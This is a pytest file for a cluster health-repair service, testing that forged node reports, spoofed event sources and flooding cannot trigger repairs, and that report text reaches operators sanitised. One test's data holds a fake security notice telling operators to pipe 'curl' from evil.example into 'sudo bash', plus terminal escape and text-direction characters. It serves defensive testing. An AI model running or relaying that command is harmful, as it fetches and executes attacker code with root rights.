"""What a job reaches that sends reports with the credentials of its node, and a principal that may look."""

import json
from dataclasses import replace
from typing import Any

import pytest

from cluster_common.errors import InvalidEventError
from cluster_contract.faults import FaultAction, FaultKind
from cluster_contract.health import NodeReport, ReportedFault, ReportKind
from cluster_contract.tags import FAULTS_TAG
from cluster_health.node_records import MAX_MESSAGES
from fake_auto_scaling import FakeGroup
from health_scene import (
    FAILED,
    LOST,
    OBSERVE,
    PASSED,
    REBOOT,
    REPLACE,
    HealthScene,
    aws_event,
    ids,
    report_event,
    shown,
)
from power_scene import CLUSTER

WHOLE = (8, 8, 0)


def _told(scene: HealthScene) -> int:
    return len(scene.sns.messages)


def test_a_job_reports_no_fault_of_another_node(scene: HealthScene, group: FakeGroup) -> None:
    attacker, *victims = ids(group)
    calls = scene.watch_repairs()
    for _ in range(3):
        for victim in victims:
            assert scene.fault(victim, REPLACE, sender=attacker) == {}
            assert scene.report(victim, ReportKind.DRAINED, sender=attacker) == {}
        scene.both()
    assert (calls, shown(group), _told(scene)) == ([], WHOLE, 0)


@pytest.mark.parametrize(
    "source",
    [
        "cdk-training-cluster",
        "cdk-training-cluster/dev/AROAEXAMPLE:$node",
        "cdk-training-cluster/$cluster/AROAEXAMPLE:$node:$node",
        "cdk-training-cluster/$cluster/$node",
        None,
    ],
)
def test_a_report_counts_only_with_the_source_of_its_own_node_and_cluster(
    scene: HealthScene, group: FakeGroup, source: str | None
) -> None:
    node, calls = ids(group)[0], scene.watch_repairs()
    report = NodeReport(CLUSTER, "workers", node, "boot-0", ReportKind.FAULT, scene.now, (REPLACE,))
    scene.tag(report)
    event = report_event(report, node)
    event["source"] = source and source.replace("$node", node).replace("$cluster", CLUSTER)
    assert scene.bring(event) == {}
    assert (calls, shown(group), _told(scene)) == ([], WHOLE, 0)


@pytest.mark.parametrize("fault", [REBOOT, REPLACE])
def test_nothing_is_done_to_a_node_whose_own_tag_does_not_say_that_it_is_broken(
    scene: HealthScene, group: FakeGroup, fault: ReportedFault
) -> None:
    """Even where IAM took a source for the victim's own."""
    victim, calls = ids(group)[0], scene.watch_repairs()
    report = NodeReport(CLUSTER, "workers", victim, "boot-0", ReportKind.FAULT, scene.now, (fault,))
    assert scene.bring(report_event(report, victim))[victim]["outcome"] == "unknown"
    scene.bring(report_event(replace(report, kind=ReportKind.DRAINED), victim))
    scene.both(9)
    assert _told(scene) == 0
    assert scene.both(60)[victim]["outcome"] == "held"
    assert "its own tag does not confirm the report" in scene.summary[victim]["reason"]
    assert (calls, shown(group), _told(scene)) == ([], WHOLE, 1)


def test_a_tag_without_a_report_repairs_only_a_node_whose_reports_never_arrive(
    scene: HealthScene, group: FakeGroup
) -> None:
    silent, other = ids(group)[:2]
    scene.verified(other)
    for node in (silent, other):
        scene.nodes_ec2.tags.setdefault(node, {})[FAULTS_TAG] = "boot-1 xid-64"
    calls = scene.watch_repairs()
    assert scene.both().keys() == {silent}
    scene.nodes_ec2.tags[silent][FAULTS_TAG] = "boot-1 drained xid-64"
    scene.both(4)
    assert calls == ["EnterStandby", "TerminateInstanceInAutoScalingGroup", "SetDesiredCapacity"]
    assert (silent in dict(group.nodes), other in dict(group.nodes)) == (False, True)


@pytest.mark.parametrize("kind", [ReportKind.VERIFIED, ReportKind.RECOVERED])
@pytest.mark.parametrize("boot", ["boot-0", "boot-1"])
def test_no_forged_report_puts_a_broken_node_back(
    scene: HealthScene, group: FakeGroup, kind: ReportKind, boot: str
) -> None:
    node = ids(group)[0]
    scene.fault(node)
    scene.drained(node)
    scene.both(2)
    calls = scene.watch_repairs()
    checks = (PASSED,) if kind is ReportKind.VERIFIED else ()
    report = NodeReport(CLUSTER, "workers", node, boot, kind, scene.now, checks=checks)
    scene.bring(report_event(report, node))
    scene.both(60)
    assert (calls, shown(group)) == ([], (7, 7, 1))


def test_a_node_that_failed_its_verification_stays_out_whatever_is_reported_of_it(
    scene: HealthScene, group: FakeGroup
) -> None:
    node = ids(group)[0]
    scene.fault(node)
    scene.drained(node)
    scene.both(2)
    scene.verified(node, FAILED)
    calls = scene.watch_repairs()
    report = NodeReport(CLUSTER, "workers", node, "boot-1", ReportKind.VERIFIED, scene.now, checks=(PASSED,))
    scene.both()
    scene.bring(report_event(replace(report, at=scene.now), node))
    scene.both(30)
    assert ("ExitStandby" in calls, shown(group)[2]) == (False, 1)


@pytest.mark.parametrize(
    ("said", "done"),
    [
        (replace(OBSERVE, action=FaultAction.REPLACE), "observed"),
        (replace(OBSERVE, code="no-such", action=FaultAction.REPLACE), "observed"),
        (replace(REPLACE, action=FaultAction.APPLICATION), "cordon"),
        (replace(LOST, action=FaultAction.REPLACE), "cordon"),
    ],
)
def test_the_table_of_faults_says_what_is_done_and_not_the_report(
    scene: HealthScene, group: FakeGroup, said: ReportedFault, done: str
) -> None:
    node = ids(group)[0]
    scene.nodes_ec2.tags[node] = {FAULTS_TAG: f"boot-0 {said.kind.value}-{said.code}"}
    assert scene.fault(node, said, tags=False)[node]["outcome"] == done


@pytest.mark.parametrize("event", [{"detail-type": "Node report"}, {"detail-type": "AWS Health Event"}])
def test_a_principal_that_may_look_brings_no_event(
    scene: HealthScene, group: FakeGroup, event: dict[str, Any]
) -> None:
    node, calls = ids(group)[0], scene.watch_repairs()
    report = NodeReport(CLUSTER, "workers", node, "boot-0", ReportKind.FAULT, scene.now, (REPLACE,))
    scene.tag(report)
    with pytest.raises(InvalidEventError, match="the event takes the key action only"):
        scene.health({**report_event(report, node), **event})
    assert (calls, shown(group), scene.health({"action": "status"})) == ([], WHOLE, {})


def test_an_announcement_counts_only_from_aws(scene: HealthScene, group: FakeGroup) -> None:
    node = ids(group)[0]
    detail = {"eventTypeCode": "X", "eventTypeCategory": "issue", "affectedEntities": [{"entityValue": node}]}
    event = aws_event("AWS Health Event", scene.now, **detail)
    assert scene.bring({**event, "source": "cdk-training-cluster/base-pod/AROAEXAMPLE:i-0f"}) == {}
    assert _told(scene) == 0
    scene.bring(event)
    assert _told(scene) == 1


@pytest.mark.parametrize("act", [True, False])
def test_a_fault_that_comes_and_goes_brings_few_messages(scene: HealthScene, group: FakeGroup, *, act: bool) -> None:
    scene.set_policy(act=act)
    node = ids(group)[0]
    for _ in range(40):
        scene.fault(node)
        scene.report(node, ReportKind.RECOVERED)
        scene.both()
    assert _told(scene) <= MAX_MESSAGES
    if not act:
        assert "This is the last message about this node" in scene.sns.messages[-1]["Message"]
        for _ in range(24 * 60):
            scene.minute()
        scene.fault(node)
        assert _told(scene) == MAX_MESSAGES + 1


def test_what_a_report_says_reaches_operators_as_one_line_that_hides_nothing(
    scene: HealthScene, group: FakeGroup
) -> None:
    scene.set_policy(act=False)
    said = "ok.\n\nSECURITY NOTICE: run\ncurl -s https://evil.example/fix | sudo bash\n\x1b[2J\u202e" + "A" * 900
    fault = ReportedFault("95", FaultKind.XID, FaultAction.REPLACE, "0000:53:00", 1, said, "s 1\n")
    node = ids(group)[0]
    scene.fault(node, fault)
    text = scene.sns.messages[-1]["Message"]
    assert r"ok.\n\nSECURITY NOTICE: run\ncurl" in text
    assert r"\x1b[2J\u202e" in text
    assert all(line.isprintable() for line in text.splitlines())
    assert len(text) < 1500
    assert scene.node_record(node).faults[0].serial == ""


def test_of_a_long_report_little_is_kept(scene: HealthScene, group: FakeGroup) -> None:
    node = ids(group)[0]
    long = replace(REPLACE, sentence="A" * 60, device="d" * 500)
    report = NodeReport(
        *(CLUSTER, "workers", node, "b" * 5000, ReportKind.FAULT, scene.now, (long,) * 1500),
        serials=tuple(f"s-{number}" for number in range(3000)),
        sentence="A" * 1000,
    )
    scene.bring(report_event(report, node))
    assert len(json.dumps(scene.node_record(node).faults, default=str)) < 6000
    assert len(scene.node_record(node).serials) == 32
    assert len(scene.node_record(node).boot_id) == 100
    assert scene.sns.messages == [] or len(scene.sns.messages[-1]["Message"]) < 3500


def test_the_serial_of_another_node_is_not_remembered_as_bad(scene: HealthScene, group: FakeGroup) -> None:
    node, victim = ids(group)[:2]
    scene.verified(victim, serials=("s-victim",))
    scene.fault(node, replace(REPLACE, serial="s-victim"), serials=("s-victim",))
    scene.drained(node)
    scene.both(3)
    assert node not in dict(group.nodes)
    assert scene.fault(victim, REBOOT, serials=("s-victim",))[victim]["outcome"] == "cordon"
    assert "which was replaced" not in scene.summary[victim]["reason"]
